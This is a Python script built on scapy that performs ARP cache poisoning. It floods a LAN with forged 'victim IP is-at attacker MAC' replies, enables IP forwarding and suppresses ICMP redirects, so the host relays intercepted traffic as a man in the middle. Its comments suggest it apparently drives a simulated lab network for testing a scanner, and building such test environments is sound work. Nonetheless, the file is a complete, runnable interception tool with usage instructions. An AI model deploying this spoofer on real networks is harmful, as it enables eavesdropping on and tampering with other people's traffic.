"""An ARP spoofer (scapy): broadcasts "VICTIM_IP is-at <my MAC>" every INTERVAL seconds, the way
arpspoof poisons a LAN's caches, and forwards what it draws in, as a man in the middle does.
Usage: python arp_spoofer.py IFACE VICTIM_IP [INTERVAL]

It poisons the scanning PC too: Linux lets an unsolicited ARP reply replace a neighbour entry
once ``locktime`` (1 s) has passed since the entry's last update, so a second after the gateway
last answered, the scanner's own packets to the gateway go to this node. A spoofer that dropped
them would make every scan step that talks to the gateway through the kernel (the HTTP title)
succeed or fail by timing alone; like ``arpspoof`` with ``ip_forward=1`` (its documented use),
this one forwards, so the gateway stays reachable, only through the attacker.
"""

from __future__ import annotations

import sys
import time

from scapy.arch import get_if_hwaddr
from scapy.config import conf
from scapy.layers.l2 import ARP, Ether


def _sysctl(name: str, value: str) -> None:
    # This namespace's own settings (the process runs inside the node's network namespace).
    with open(f"/proc/sys/net/ipv4/{name}", "w") as fh:
        fh.write(value)


def main() -> None:
    iface, victim = sys.argv[1], sys.argv[2]
    _sysctl("ip_forward", "1")
    # Forwarding back out of the interface it came in on would send ICMP redirects to the victims.
    _sysctl("conf/all/send_redirects", "0")
    _sysctl(f"conf/{iface}/send_redirects", "0")
    interval = float(sys.argv[3]) if len(sys.argv) > 3 else 0.3
    mac = get_if_hwaddr(iface)
    frame = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(
        op=2, hwsrc=mac, psrc=victim, hwdst="ff:ff:ff:ff:ff:ff", pdst=victim
    )
    sock = conf.L2socket(iface=iface)
    print("ready", flush=True)
    while True:
        sock.send(frame)
        time.sleep(interval)


if __name__ == "__main__":
    main()
